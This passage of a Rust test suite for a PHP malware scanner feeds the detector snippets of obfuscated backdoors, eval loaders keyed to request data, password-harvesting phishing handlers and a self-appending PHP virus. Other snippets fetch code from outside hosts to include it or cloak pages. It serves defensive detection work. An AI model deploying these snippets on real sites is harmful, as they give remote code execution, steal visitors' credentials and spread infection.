    assert!(super::may_match(filter.replace("header", "h").replace("die", "d").as_bytes()));
    // A table of versions, with no visitor to compare (a compatibility check).
    let versions = filter.replace("$_SERVER['REMOTE_ADDR']", "PHP_VERSION");
    assert!(found(&versions).is_empty(), "{:?}", found(&versions));
}

#[test]
fn security_names_and_firewalls_are_not_phishing_filters() {
    // A settings page naming scanners, never testing the visitor.
    let docs = "<?php $help = 'Check your site with VirusTotal, Sucuri or Netcraft.'; echo $help; exit;";
    assert!(found(docs).is_empty());
    // One service tested: a referrer statistic.
    let one = "<?php if (strpos($_SERVER['HTTP_REFERER'], 'virustotal') !== false) { $stats['scans']++; } exit;";
    assert!(found(one).is_empty());
    // A firewall's CIDR blocks and single addresses are not wildcard network patterns.
    let cidr: String = (1..=24).map(|i| format!("'{i}.{i}.0.0/16','{i}.{i}.1.1',")).collect();
    let firewall =
        format!("<?php $block = array({cidr}); if (in_array($_SERVER['REMOTE_ADDR'], $block)) {{ die('Blocked'); }}");
    assert!(found(&firewall).is_empty());
    // A redirect with a random query (a cache buster), and a forms plugin's settings with a
    // Telegram notice and a bot trap but no chat set.
    let buster = "<?php header('Location: https://example.org/?v=' . rand(1, 999)); exit;";
    assert!(found(buster).is_empty());
    let forms =
        "<?php $o = array('honeypot' => 'Anti-bot field', 'telegram_notice' => 'Send new entries to Telegram');";
    assert!(found(forms).is_empty());
}

#[test]
fn names_joined_from_pieces_and_called_are_found() {
    let local = "<?php $p = array('ert', 'ass'); $f = $p[1].$p{0}.$p[2]; $f($x);";
    assert_eq!(found(local), [Why::HiddenFunctionName]);
    let property = "<?php class A { var $s = array('a','b','c'); function r($x) { $e = $this->s[2].$this->s[0].$this->s[1]; return @$e($x); } }";
    assert_eq!(found(property), [Why::HiddenFunctionName]);
}

#[test]
fn pieces_joined_as_text_or_called_by_name_are_quiet() {
    // Joined but printed, not called; two pieces only; a method named like the variable.
    assert!(found("<?php $d = $row[0].$row[1].$row[2]; echo $d;").is_empty());
    assert!(found("<?php $f = $map[0].$map[1]; $f($x);").is_empty());
    assert!(found("<?php $d = $p[0].$p[1].$p[2]; $this->d($x); $o->$d;").is_empty());
    // Pieces mixed with other text: a path or a key, not a hidden name.
    assert!(found("<?php $k = $a[0].'/'.$a[1].$a[2]; $k();").is_empty());
}

#[test]
fn table_decoders_spelling_called_names_are_found() {
    let src = "<?php function d($l){$t='abcdef';$o='';foreach($l as $n){$o.=$t[$n];}return $o;}\n$a=[];$a[]=d(array(1,2));$a[]=d(array(3));$a[]=d([4,5]);$a[0]($_COOKIE);";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
}

#[test]
fn names_spelled_inline_from_a_kept_text_are_found() {
    // fresh153's uploads backdoor: `base64_decode` picked from a scrambled alphabet in a loop.
    let src = "<?php $a = \"e_iym0*53qrxo)7l;fbaw9th(.2vunc1gs4pdjz8k6/\";\n\
               $d = \"\"; foreach([18,19,33,0,41,34,1,36,0,30,12,36,0] as $r){ $d .= $a[$r]; }\n\
               $p = $_REQUEST['x']; $c = $d($p); $f = $c; echo $f;";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
    // A word spelled so and printed (a captcha's letters).
    let captcha = "<?php $a = 'abcdefghijklmnop'; $w = ''; foreach ([1, 4, 3, 0, 2] as $r) { $w .= $a[$r]; } $f = 'strtoupper'; echo $f($w);";
    assert!(found(captcha).is_empty());
}

#[test]
fn table_lookups_without_hidden_calls_are_quiet() {
    // A code-page converter: the same loop, but its results are only printed.
    let src = "<?php function d($l){$t='abcdef';$o='';foreach($l as $n){$o.=$t[$n];}return $o;}\necho d(array(1,2)), d(array(3)), d([4,5]);";
    assert!(found(src).is_empty());
    // Called through a variable, but the function is not given number lists.
    let names = "<?php function d($l){$o='';foreach($l as $n){$o.=$map[$n];}return $o;}\n$f=d($keys);$g=d($more);$h=d($rest);$f();";
    assert!(found(names).is_empty());
}

#[test]
fn names_spelled_in_escape_codes_are_found() {
    let globals = r#"<?php ${"\x47L\x4f\x42\x41\x4c\x53"}["a"] = "x"; eval($x);"#;
    assert_eq!(found(globals), [Why::EvalOfDecoded]);
    // Or commands run: a downloader that starts what it fetched.
    let shell = r#"<?php ${"\107\114\117\102\101\x4c\x53"}["c"] = "command"; $c = file_get_contents($_POST["u"]); exec(${${"\x47\x4c\117\102\101\x4c\123"}["c"]});"#;
    assert!(found(shell).contains(&Why::EvalOfDecoded), "{:?}", found(shell));
    // A method or a function of that name is not PHP's.
    let method = r#"<?php ${"\x47L\x4f\x42\x41\x4c\x53"}["a"] = "x"; $db->exec($q); function system($a) {}"#;
    assert!(found(method).is_empty(), "{:?}", found(method));
    let keys = r#"<?php $a = "\x52\x45\x4dOTE_ADDR"; $b = "\x48\x54TP_HOST"; $c = "\142\141\163\145\66\64\137\144\145\143\157\144\145"; $d = "\x5f\x50OST";"#;
    assert_eq!(found(keys), [Why::ObfuscatedNames]);
}

#[test]
fn names_spelled_in_character_code_lists_are_found() {
    // A loader whose decoders and writer are kept as lists of character codes, turned into
    // names by a closure and called through variables.
    let make = "$m = static function(array $c): string { return implode('', array_map('chr', $c)); };";
    let b64 = "array(0 => 98, 1 => 97, 2 => 115, 3 => 101, 4 => 54, 5 => 52, 6 => 95, 7 => 100, 8 => 101, 9 => 99, 10 => 111, 11 => 100, 12 => 101)";
    let gz = "[0x67, 0x7a, 0x69, 0x6e, 0x66, 0x6c, 0x61, 0x74, 0x65]";
    let loader = format!("<?php {make}\n$d = $m({b64});\n$z = $m({gz});\n$code = $z($d($blob));");
    assert_eq!(found(&loader), [Why::HiddenFunctionName]);
    // One name so spelled, or lists never called through a variable, or codes of other text.
    assert!(found(&format!("<?php {make}\n$d = $m({b64});\n$code = $d($blob);")).is_empty());
    assert!(found(&format!("<?php $names = [{b64}, {gz}];\necho count($names);")).is_empty());
    let text = "<?php $f = 'chr'; $hello = [72, 101, 108, 108, 111]; $world = [87, 111, 114, 108, 100]; echo $f(65);";
    assert!(found(text).is_empty());
    // An index is not a list (`$t[98]`).
    assert!(found("<?php $f = $t[101]; $g = $u[118]; $f($g);").is_empty());
}

#[test]
fn superglobal_keys_kept_encoded_are_found() {
    // A doorway's fetcher and a proxy backdoor: the site's name and the visitor's address read
    // under keys kept in base64.
    let doorway = r#"<?php $j = curl_init(); curl_setopt($j, CURLOPT_URL, $u . "?domain={$_SERVER[base64_decode(base64_decode("VTBaU1ZWVkdPVWxVTVU1Vg=="))]}"); echo curl_exec($j);"#;
    assert_eq!(found(doorway), [Why::ObfuscatedNames]);
    let proxy = "<?php if (!empty($_SERVER[base64_decode('SFRUUF9DTElFTlRfSVA=')])) { $ip = 1; }";
    assert_eq!(found(proxy), [Why::ObfuscatedNames]);
    // Keys decoded from data, a decoder's result kept under a plain key.
    assert!(found("<?php $_SESSION['k'] = base64_decode($_POST['k']); $v = $_GET[$name];").is_empty());
    assert!(found("<?php $_POST['data'] = base64_decode($_POST['data']); $x = $map[base64_decode($k)];").is_empty());
}

#[test]
fn escapes_in_ordinary_text_are_quiet() {
    // Escaped GLOBALS without eval; a few escaped names; escapes in bytes and line ends.
    assert!(found(r#"<?php ${"\x47L\x4f\x42\x41\x4c\x53"}["a"] = "x"; echo $a;"#).is_empty());
    assert!(found(r#"<?php $a = "\x52\x45\x4dOTE_ADDR"; $b = "\x48\x54TP_HOST"; $c = "\x5f\x50OST";"#).is_empty());
    let bytes = r#"<?php $bom = "\xEF\xBB\xBF"; $nl = "\r\n"; $m = "eval\n\t"; eval($code);"#;
    assert!(found(bytes).is_empty());
}

/// `body` inside `pad` bytes of ordinary code on each side: a large file.
fn padded(body: &str, pad: usize) -> String {
    let filler = "$total = $total + $price * $count;\n".repeat(pad / 36 + 1);
    format!("<?php\n{filler}{body}\n{filler}")
}

#[test]
fn cloaking_standing_together_in_a_large_file_is_found() {
    let cloak = "if (preg_match('/google|bing/i', $_SERVER['HTTP_REFERER'])) { $to = file_get_contents('http://jump.example/t.txt'); header('Location: ' . $to); exit; }";
    let src = padded(cloak, 40_000);
    assert!(whys(&src).contains(&(Why::SearchEngineCloaking, Danger::High)));
}

#[test]
fn cloaking_signs_far_apart_in_a_large_file_are_weak() {
    // A cache plugin: crawlers told apart in one place, pages fetched in another.
    let ua = "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) { $skip_cache = true; }";
    let fetch = "$warm = file_get_contents('https://cdn.example/warm.txt'); header('Location: /');";
    let src = padded(&format!("{ua}\n{}\n{fetch}", "$a = $b + $c;\n".repeat(2_000)), 20_000);
    assert!(!whys(&src).iter().any(|(w, d)| *w == Why::SearchEngineCloaking && *d >= Danger::Medium));
}

#[test]
fn encrypted_request_loaders_are_found() {
    let ssl = "<?php $d = openssl_decrypt($_POST['d'], 'AES128', $_SESSION['k']); class C { function __invoke($p) { eval($p); } } call_user_func(new C(), $d);";
    assert_eq!(found(ssl), [Why::EvalOfDecoded]);
    let xor = "<?php $b = file_get_contents('php://input'); for ($i = 0; $i < 9; $i++) { $b[$i] = $b[$i] ^ $k[$i & 15]; } eval($b);";
    assert_eq!(found(xor), [Why::EvalOfDecoded]);
    // Each byte XORed with a key character picked first, the code kept in the session and
    // made into a function.
    let session = "<?php session_start(); function t($d, $k) { for ($i = 0; $i < strlen($d); $i++) { $c = $k[$i & 15]; \
                   $d[$i] = $d[$i] ^ $c; } return $d; } if (isset($_POST['p'])) { $_SESSION['m'] = t(base64_decode($_POST['p']), 'k'); } \
                   $f = create_function('', t($_SESSION['m'], 'k')); $f();";
    assert_eq!(found(session), [Why::EvalOfDecoded]);
}

#[test]
fn decryption_without_running_code_is_quiet() {
    // A webhook that decrypts the request body and stores it; a template engine that evals
    // its own compiled text and decrypts nothing.
    let hook = "<?php $b = openssl_decrypt(file_get_contents('php://input'), 'aes-256-cbc', KEY); file_put_contents($path, $b);";
    assert!(found(hook).is_empty());
    let tpl = "<?php $x = $a[$i] + $k[$i]; eval('?>' . $compiled); echo $_GET['page'];";
    assert!(found(tpl).is_empty());
}

#[test]
fn names_counted_up_in_underscores_are_found() {
    let src = "<?php $_ = 'a'; $__ = $_; $__++; $__++; $__++; $___ = $_; $___++; $___++; $____ = $__ . $___; $____($_GET[0]);";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
}

#[test]
fn counters_in_underscores_without_calls_are_quiet() {
    // Counting up placeholders is odd but harmless without a call through a variable.
    assert!(found("<?php $__ = 0; $__++; $__++; $__++; $__++; $__++; echo $__;").is_empty());
    // Ordinary counters with names.
    assert!(found("<?php $n = 0; $n++; $n++; $n++; $n++; $n++; $f = 'trim'; $f($x);").is_empty());
}

#[test]
fn texts_hidden_in_an_xor_table_are_found() {
    let calls: String = (0..12).map(|i| format!("echo T::d('_{i}', 'k');")).collect();
    let src = format!(
        "<?php class T {{ static function d($n, $k) {{ $s = base64_decode(self::$t[$n]); for ($i = 0; $i < 3; $i++) {{ $s[$i] = chr(ord($s[$i]) ^ ord($k[0])); }} return $s; }} }} {calls}"
    );
    assert_eq!(found(&src), [Why::ObfuscatedNames]);
}

#[test]
fn a_cipher_used_a_few_times_is_quiet() {
    // An IMAP client's XOR of a challenge, called twice.
    let src = "<?php function x($s, $k) { $s = base64_decode($s); for ($i = 0; $i < 3; $i++) { $s[$i] = chr(ord($s[$i]) ^ ord($k[$i])); } return $s; } $a = x('AAA=', 'k'); $b = x('BBB=', 'k');";
    assert!(found(src).is_empty());
}

#[test]
fn names_computed_from_literals_by_bitwise_operators_are_found() {
    let src =
        "<?php $a = 'W2vz' ^ 'SJJs'; $b = 'Qc' & EAJ; $c = \"k/]\" | '84l'; $d = 'x' ^ 'y'; $f = $a . $b; $f($c);";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
}

#[test]
fn flags_and_binary_data_are_not_computed_names() {
    // Bit flags of constants, a few literal masks, binary bytes after `__halt_compiler`.
    assert!(found("<?php $m = E_ALL ^ E_NOTICE; $n = A | B | C | D | E; $f($m);").is_empty());
    assert!(found("<?php $x = 'ab' ^ 'cd'; $y = 'ef' & 'gh'; $cb($x, $y);").is_empty());
    let binary = "<?php $f($x); __halt_compiler(); \'\u{fffd}\u{fffd}\' ^ \'\u{fffd}\' | \'\u{fffd}\' & \'\u{fffd}\' ^ \'\u{fffd}\'";
    assert!(found(binary).is_empty());
}

#[test]
fn many_names_spelled_from_an_unknown_table_are_found() {
    let src = "<?php $t = f(); $$a = $t[1].$t[2].$t[3].$t[4]; $$b = $t[5].$t[6].$t[7].$t[8]; $$c = $t[9].$t[1].$t[2].$t[3]; $x($y);";
    assert_eq!(found(src), [Why::HiddenFunctionName]);
}

#[test]
fn rows_joined_from_columns_are_quiet() {
    // Joining a row's columns into text is ordinary; nothing is called through a variable.
    let src = "<?php $a = $r[0].$r[1].$r[2].$r[3]; $b = $r[4].$r[5].$r[6].$r[7]; $c = $r[8].$r[9].$r[10].$r[11]; echo $a, $b, $c;";
    assert!(found(src).is_empty());
}

#[test]
fn collectors_fingerprinting_their_victims_are_found() {
    let src = "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); $m = 'A: ' . $_POST['a'] . ' H: ' . $h; mail($to, 'x', $m); header('Location: next.php');";
    assert_eq!(found(src), [Why::CredentialCollector]);
}

#[test]
fn contact_forms_and_host_lookups_alone_are_quiet() {
    // A contact form without a host lookup; a statistics page that looks up hosts and mails
    // nothing; a host lookup logged without any form.
    let contact = "<?php $m = 'Name: ' . $_POST['name'] . ' IP: ' . $_SERVER['REMOTE_ADDR']; mail(ADMIN, 'Contact', $m); header('Location: thanks.html');";
    assert!(found(contact).is_empty());
    let stats =
        "<?php $h = gethostbyaddr($_SERVER['REMOTE_ADDR']); echo htmlspecialchars($h); $p = (int) $_GET['page'];";
    assert!(found(stats).is_empty());
    let log = "<?php $h = gethostbyaddr($ip); fwrite($fp, $h); header('Location: /');";
    assert!(found(log).is_empty());
}

#[test]
fn mail_relay_checks_are_found() {
    let src = "<form method=post><input name=e></form><?php if ($_POST['e']) { mail($_POST['e'], 'ok', 'ok'); }";
    assert_eq!(whys(src), [(Why::MailFromInput, Danger::Medium)]);
}

#[test]
fn forms_mailing_the_owner_are_not_relays() {
    // The visitor's address only as the reply address; no form on the page.
    let owner = "<form method=post><input name=e></form><?php mail(OWNER, 'Contact', $_POST['msg'], 'Reply-To: ' . $_POST['e']);";
    assert!(found(owner).is_empty());
    let api = "<?php mail($_POST['e'], 'Your code', $code);";
    assert!(found(api).is_empty());
}

#[test]
fn function_names_written_in_hex_are_found() {
    // shell_exec, base64_decode, file_put_contents, passthru.
    let src = "<?php $l = ['7368656c6c5f65786563', '6261736536345f6465636f6465', '66696c655f7075745f636f6e74656e7473', '7061737374687275'];";
    assert_eq!(found(src), [Why::ObfuscatedNames]);
}

#[test]
fn a_small_script_loading_php_from_a_hidden_folder_is_found() {
    // Regression: fresh123's doorway kit leaves the site's `index.php` one include.
    assert_eq!(found("<?php\ninclude dirname(__FILE__) . '/.private/config.php';\n?>\n"), [Why::IncludeOfData]);
    // A test's bootstrap loading PHPUnit's copy; a file of an ordinary folder.
    assert!(found("<?php require __DIR__ . '/../.phpunit/phpunit/vendor/autoload.php';").is_empty());
    assert!(found("<?php include __DIR__ . '/private/config.php';").is_empty());
}

#[test]
fn dangerous_names_kept_as_lists_of_letters_are_hidden() {
    // Regression: fresh126's `invisio.php` joins its function names from lists of letters.
    let lists = "<?php function sjoin($a) { return implode('', $a); } $map = ['muf' => ['m','o','v','e','_','u','p','l','o','a','d','e','d','_','f','i','l','e'],\n\
                 'fpc' => ['f','i','l','e','_','p','u','t','_','c','o','n','t','e','n','t','s']]; $f = sjoin($map['muf']); $f($a, $b);";
    assert!(found(lists).contains(&Why::HiddenFunctionName), "{:?}", found(lists));
    // A keyboard layout's rows of letters name nothing.
    let rows = "<?php $rows = [['q','w','e','r','t','y'], ['a','s','d','f']]; $f = 'strtoupper'; echo $f($rows[0][0]);";
    assert!(found(rows).is_empty(), "{:?}", found(rows));
}

#[test]
fn a_functions_name_written_in_base64_and_called_through_a_variable_is_hidden() {
    // Regression: fresh123's GladiusPHP loader decodes `pack` and `preg_replace_callback`
    // from base64 with a decoder of its own, then calls what it got.
    let loader = "<?php $d = yQ('q4Kl', 24, 'PNuk'); $p = $d(\"cGFjaw==\"); $x = $p('H*', $blob); $c = $d(\"cHJlZ19yZXBsYWNlX2NhbGxiYWNr\"); $c('/.*/', $x, '');";
    assert!(found(loader).contains(&Why::HiddenFunctionName), "{:?}", found(loader));
    // The same words in plain base64 of a page's text, nothing called through a variable.
    let text = "<?php $s = base64_decode('cGFjaw=='); echo $s;";
    assert!(!found(text).contains(&Why::HiddenFunctionName));
}

#[test]
fn function_names_kept_reversed_or_cut_into_pieces_are_found() {
    // fresh58's asia.php: names read backwards by a helper of the file's own, some in two
    // pieces (file_put_contents, curl_exec, fwrite, file_get_contents).
    let reversed = "<?php $a = $this->rev('stnetnoc_tup_elif'); $b = $this->rev('cexe_lruc');\n\
                    $c = $this->rev('eti' . 'rwf'); $d = $this->rev('stnetnoc_teg_elif');";
    assert_eq!(found(reversed), [Why::ObfuscatedNames]);
    // Hexadecimal names cut into pieces joined by `.` (shell_exec, base64_decode, passthru,
    // file_put_contents).
    let pieces = "<?php $l = ['7368656c6c' . '5f65786563', '62617365' . '36345f6465636f6465', '70617373' . '74687275', \
                  '66696c655f7075745f' . '636f6e74656e7473'];";
    assert_eq!(found(pieces), [Why::ObfuscatedNames]);
}

#[test]
fn words_that_read_as_names_backwards_and_joined_text_are_quiet() {
    // One or two such words (a person's name, a tag), and ordinary text joined.
    let src = "<?php $n = ['liam', 'lave']; $s = 'file' . '_get_' . 'contents'; $t = 'sys' . 'tem';";
    assert!(found(src).is_empty());
}

#[test]
fn code_kept_after_halt_compiler_and_included_is_found() {
    // fresh58's a.php: the file's own tail, after `__halt_compiler`, inflated into a temporary
    // file whose path is included.
    let src = "<?php $f = fopen(__FILE__, 'r'); fseek($f, __COMPILER_HALT_OFFSET__); $t = tmpfile();\n\
               $u = stream_get_meta_data($t); fwrite($t, gzinflate(stream_get_contents($f))); require($u['uri']);\n\
               __halt_compiler();";
    assert_eq!(found(src), [Why::IncludeOfData]);
    // An archive's stub reads its own tail too, and names Phar.
    let stub = "<?php if (!class_exists('Phar')) { $f = fopen(__FILE__, 'r'); fseek($f, __COMPILER_HALT_OFFSET__);\n\
                $dir = Extract_Phar::go(); include $dir . '/index.php'; } __halt_compiler();";
    assert!(found(stub).is_empty());
    // Regression (review): the same loader naming Phar for something else, reading its own
    // name from the server, or padded past a small script's size.
    let running = src.replace("<?php ", "<?php Phar::running(false); ");
    assert_eq!(found(&running), [Why::IncludeOfData]);
    let by_name = src.replace("fopen(__FILE__, 'r')", "fopen($_SERVER['SCRIPT_FILENAME'], 'r')");
    assert_eq!(found(&by_name), [Why::IncludeOfData]);
    let padded = src.replace("<?php ", &format!("<?php $pad = [{}]; ", "1, ".repeat(250)));
    assert_eq!(found(&padded), [Why::IncludeOfData]);
    // A maintenance page printing the page it keeps after `__halt_compiler`, and including its
    // settings: nothing written, nothing of the tail included.
    let page = "<?php include $settings; echo file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__);\n\
                __halt_compiler();<html><body>Back soon</body></html>";
    assert!(found(page).is_empty());
    // A self-extracting installer writes its files and includes none of them.
    let installer = "<?php $f = fopen(__FILE__, 'r'); fseek($f, __COMPILER_HALT_OFFSET__);\n\
                     file_put_contents('site.zip', stream_get_contents($f)); require 'unzip.php'; __halt_compiler();";
    assert!(found(installer).is_empty());
}

#[test]
fn hashes_and_colours_in_hex_are_quiet() {
    let src = "<?php $h = ['d41d8cd98f00b204e9800998ecf8427e', 'ffcc00', '6261736536345f', '0a0b0c0d'];";
    assert!(found(src).is_empty());
}

#[test]
fn functions_named_by_the_file_itself_are_found() {
    assert_eq!(found("<?php $f = substr(__FILE__, -10, 6); $c = $_POST[1]; $f($c);"), [Why::HiddenFunctionName]);
    let braces = "<?php ${\"fn\"} = substr(__FILE__, -10, -4); ${\"c\"} = $_POST['c']; $fn($c);";
    assert_eq!(found(braces), [Why::HiddenFunctionName]);
}

#[test]
fn the_file_name_used_as_text_is_quiet() {
    // A plugin's own slug and path, never called.
    let src = "<?php $slug = basename(__FILE__, '.php'); $dir = dirname(__FILE__); $cb($slug); echo $dir;";
    assert!(found(src).is_empty());
}

#[test]
fn a_collector_of_tersely_labelled_or_coded_fields_is_found() {
    // A secret field under a label of two letters, mailed.
    let terse = "<?php $m = \"ID: \" . $_POST['email'] . \"\\n\"; $m .= \"Pd: \" . $_POST['password'] . \"\\n\";\n\
                 mail('drop@example.invalid', 'x', $m); header('Location: https://example.com');";
    assert!(found(terse).contains(&Why::CredentialCollector), "{:?}", found(terse));
    // Coded field names, the labels in French, posted with curl only.
    let coded = "<?php $m = \"Identifiant : \" . $_POST['AK12'] . \"\\n\"; $m .= \"Code Secret : \" . $_POST['AK13'];\n\
                 $c = curl_init('https://example.invalid/x'); curl_setopt($c, CURLOPT_POSTFIELDS, $m); curl_exec($c);";
    assert!(found(coded).contains(&Why::CredentialCollector), "{:?}", found(coded));
    // Field names numbered as a page builder names them.
    let numbered = "<?php $m = \"Online ID : \" . $_POST['formtext1'] . \"\\n\"; $m .= \"PassCode : \" . $_POST['formtext2'];\n\
                    mail('drop@example.invalid', 'x', $m);";
    assert!(found(numbered).contains(&Why::CredentialCollector), "{:?}", found(numbered));
    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/collector_coded_fields_to_chat.php");
    assert!(found(fixture).contains(&Why::CredentialCollector), "{:?}", found(fixture));
}

#[test]
fn a_contact_form_mailing_coded_or_ordinary_fields_is_not_a_collector() {
    // Coded fields with labels that name no secret, mailed to the site's owner.
    let contact = "<?php $m = \"Name: \" . $_POST['f1'] . \"\\n\"; $m .= \"Phone: \" . $_POST['f2'] . \"\\n\";\n\
                   $m .= \"Topic 3: \" . $_POST['q12']; mail('owner@example.com', 'Contact', $m);";
    assert!(!found(contact).contains(&Why::CredentialCollector), "{:?}", found(contact));
    // A short label before a field that is not a secret.
    let order =
        "<?php $m = \"Qty: \" . $_POST['qty'] . \" Ref: \" . $_POST['ref']; mail('shop@example.com', 'Order', $m);";
    assert!(!found(order).contains(&Why::CredentialCollector), "{:?}", found(order));
}

#[test]
fn a_script_that_writes_its_own_code_into_the_scripts_of_its_folder_is_a_virus() {
    let appends = "<?php $h = fopen(__FILE__, 'r'); $c = fread($h, filesize(__FILE__)); $d = opendir('.');\n\
                   while (($f = readdir($d)) !== false) { if (substr($f, -4) == '.php') { $g = fopen($f, 'a'); fwrite($g, $c); } }";
    assert_eq!(found(appends), [Why::InjectsHiddenCode]);
    let includes = "<?php $d = opendir('.'); while ($f = readdir($d)) { $g = fopen($f, 'a');\n\
                    fputs($g, '<?php include(\"'); fputs($g, __FILE__); fputs($g, '\"); ?>'); }";
    assert_eq!(found(includes), [Why::InjectsHiddenCode]);
    let fixture = include_str!("../../../tests/fixtures/sweep/malicious/virus_appends_itself.php");
    assert_eq!(found(fixture), [Why::InjectsHiddenCode]);
}

#[test]
fn a_self_updater_or_a_log_naming_its_script_is_not_a_virus() {
    // It rewrites its own file with what it read from its own file.
    let update = "<?php $c = file_get_contents(__FILE__); $c = str_replace('v1', 'v2', $c); $h = fopen(__FILE__, 'w');\n\
                  fwrite($h, $c); foreach (glob('cache/*') as $f) { unlink($f); }";
    assert!(found(update).is_empty(), "{:?}", found(update));
    // It logs its own path while it walks a folder.
    let log = "<?php $me = __FILE__; $l = fopen('run.log', 'a'); foreach (scandir('.') as $f) { fwrite($l, \"$me saw $f\\n\"); }";
    assert!(found(log).is_empty(), "{:?}", found(log));
}

/// Statements shuffled and joined by `goto`, as obfuscators cut a file: `n` pieces in a chain.
fn shuffled(n: usize, body: &str) -> String {
    let mut s = String::from("<?php goto L0;");
    for k in (0..n).rev() {
        s.push_str(&format!(" L{k}: $v{k} = {k}; goto L{};", k + 1));
    }
    format!("{s} L{n}: {body}")
}

#[test]
fn shuffled_code_that_runs_code_is_a_hidden_loader() {
    let loader = shuffled(40, "function r($c) { return eval('?>' . $c); } r(file_get_contents($u));");
    assert_eq!(whys(&loader), [(Why::EvalOfDecoded, Danger::High)]);
    // Generated parsers jump as much and run nothing.
    assert_eq!(whys(&shuffled(400, "return $v1;")), []);
    // (Parsoid's grammar has a method named `assert`.)
    let method = "class G { private function assert($c, $t) { if (!$c) { throw new Exception($t); } } function f() { $this->assert(true, 'x'); } }";
    assert_eq!(whys(&shuffled(400, method)), []);
    // A few jumps in ordinary code that also runs a template.
    assert_eq!(whys(&shuffled(5, "eval('?>' . $compiled);")), []);
}

#[test]
fn form_field_names_are_the_names_the_fields_pattern_finds() {
    // The scan replaced this pattern (slow on large pages): on texts made of its pieces, both
    // find the same names in the same order.
    let pattern = regex::bytes::Regex::new(
        r#"(?i-u)<(?:input|textarea|select)\b[^>]{0,300}?\bname\s*=\s*\\?["']?([a-z_][a-z0-9_]{0,40})"#,
    )
    .unwrap();
    let long = "x".repeat(150);
    let longer = "n".repeat(45);
    let pieces: [&str; 27] = [
        "<",
        ">",
        "input",
        "INPUT",
        "textarea",
        "Select",
        "selects",
        " ",
        "\t",
        "\n",
        "name",
        "NAME",
        "myname",
        "=",
        "\"",
        "'",
        "\\",
        "cmd",
        "_x",
        "9",
        "a",
        "-",
        &long,
        &longer,
        "<input ",
        " name=",
        "<select name = '",
    ];
    let mut next = pseudo_random(0x9E37_79B9_7F4A_7C15);
    for _ in 0..20_000 {
        let len = 1 + next(30);
        let text: String = (0..len).map(|_| pieces[next(pieces.len())]).collect();
        let by_pattern: Vec<&[u8]> = pattern
            .find_iter(text.as_bytes())
            .map(|m| {
                let m = m.as_bytes();
                &m[m.iter().rposition(|c| !(c.is_ascii_alphanumeric() || *c == b'_')).map_or(0, |p| p + 1)..]
            })
            .collect();
        let by_scan: Vec<&[u8]> = input::form_field_names(text.as_bytes()).collect();
        assert_eq!(by_scan, by_pattern, "{text:?}");
    }
}

/// Numbers below `n` from a seed, the same on every run (texts generated to compare a fast
/// search with the pattern it stands for).
pub(super) fn pseudo_random(mut seed: u64) -> impl FnMut(usize) -> usize {
    move |n| {
        seed = seed.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (seed >> 33) as usize % n
    }
}

#[test]
fn a_name_kept_with_noise_through_it_is_found() {
    // fresh101's fake plugins: the decoder's name and the code it decodes carry a noise
    // character that `str_replace` takes out before use.
    let noisy = "<?php\n/* Plugin Name: Beta Element HQ */\n$GLOBALS['n'] = ':';\n$d = \":b:ase6:4:_:decode\";\n\
                 $m = 'a:rray_map';\n$parts = array(':cGx:1Z2:l:uUnV:sZXM=');\n\
                 $f = str_replace($GLOBALS['n'], '', $d);\n$all = $m($f, $parts);\n";
    assert!(found(noisy).contains(&Why::HiddenFunctionName), "{:?}", found(noisy));
    let angled = "<?php $d = str_replace('<', '', \"ba<se6<4_de<code\"); $d($x);";
    assert!(found(angled).contains(&Why::HiddenFunctionName), "{:?}", found(angled));
    // Words with one separator, dates and short names are not noise.
    for quiet in [
        "<?php $a = 'e-mail'; $b = '2024-01-02'; $c = 'p:a:c:k'; $d = 'file-get-contents-note';",
        // Regression: a path's part and a placeholder (OpenCart's `'/system/'`, phpMyAdmin's
        // `'@HTTP_HOST@'`).
        "<?php $p = DIR_APPLICATION . '/system/'; $v = array('@HTTP_HOST@' => $h);",
    ] {
        assert!(found(quiet).is_empty(), "{:?}", found(quiet));
    }
}

#[test]
fn a_function_called_through_an_underscore_variable_is_found() {
    // fresh73's and fresh71's non-alphanumeric backdoors: every name made of symbols, then
    // called through `$_` or `$__`.
    let symbols = "<?php\n$_[]=@!+_; $__=@${_}>>$_;$_[]=$__;$_[]=@_;\n$_=$_[$__+ $__] ;$_[@-_]($_[@!+_] );";
    assert!(found(symbols).contains(&Why::HiddenFunctionName), "{:?}", found(symbols));
    let counted = "<?=[$_=([]..1)[0],++$_,$__=$_++,$__.=++$_,$__=$_(95).$_(71),$$__[0]($$__[1])];";
    assert!(found(counted).contains(&Why::HiddenFunctionName), "{:?}", found(counted));
    // An underscore variable read or a translation function called is not that.
    let quiet = "<?php foreach ($rows as $_ => $row) { echo __('Name') . $_; } $__ = $list[0];";
    assert!(found(quiet).is_empty(), "{:?}", found(quiet));
}

#[test]
fn code_fetched_and_included_from_a_temporary_file_is_found() {
    let tmp = "<?php $ch = curl_init('https://raw.example/u/k/memek.php'); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true);\n\
               $res = curl_exec($ch); $tmp = tmpfile(); $path = stream_get_meta_data($tmp)['uri'];\n\
               fprintf($tmp, '%s', $res); include($path);";
    assert!(found(tmp).contains(&Why::CodeFromInternet), "{:?}", found(tmp));
    // Regression: fresh126's `hesh.php` takes the path out of the metadata in a statement of
    // its own.
    let meta = tmp
        .replace("$path = stream_get_meta_data($tmp)['uri'];", "$m = stream_get_meta_data($tmp); $path = $m['uri'];");
    assert!(found(&meta).contains(&Why::CodeFromInternet), "{:?}", found(&meta));
    // (Its names in mixed case pass the words every shape needs: `CuRL_exEc`.)
    assert!(super::may_match(b"<?php $C = cUrL_inIt($L); $r = CuRL_exEc($C);"));
    let named = "<?php $data = file_get_contents('https://api.example/repos/x/contents/k.php'); $f = tempnam(sys_get_temp_dir(), 'c_');\n\
                 file_put_contents($f, base64_decode($data)); include($f); unlink($f);";
    assert!(found(named).contains(&Why::CodeFromInternet), "{:?}", found(named));
    // fresh114's `tmp.php`: a code host's file (no scheme) kept in `/tmp/sess_….php`.
    let sess = "<?php $URL = 'raw.githubusercontent.com/a/b/main/alfa.php'; $TMP = '/tmp/sess_' . md5($_SERVER['HTTP_HOST']) . '.php';\n\
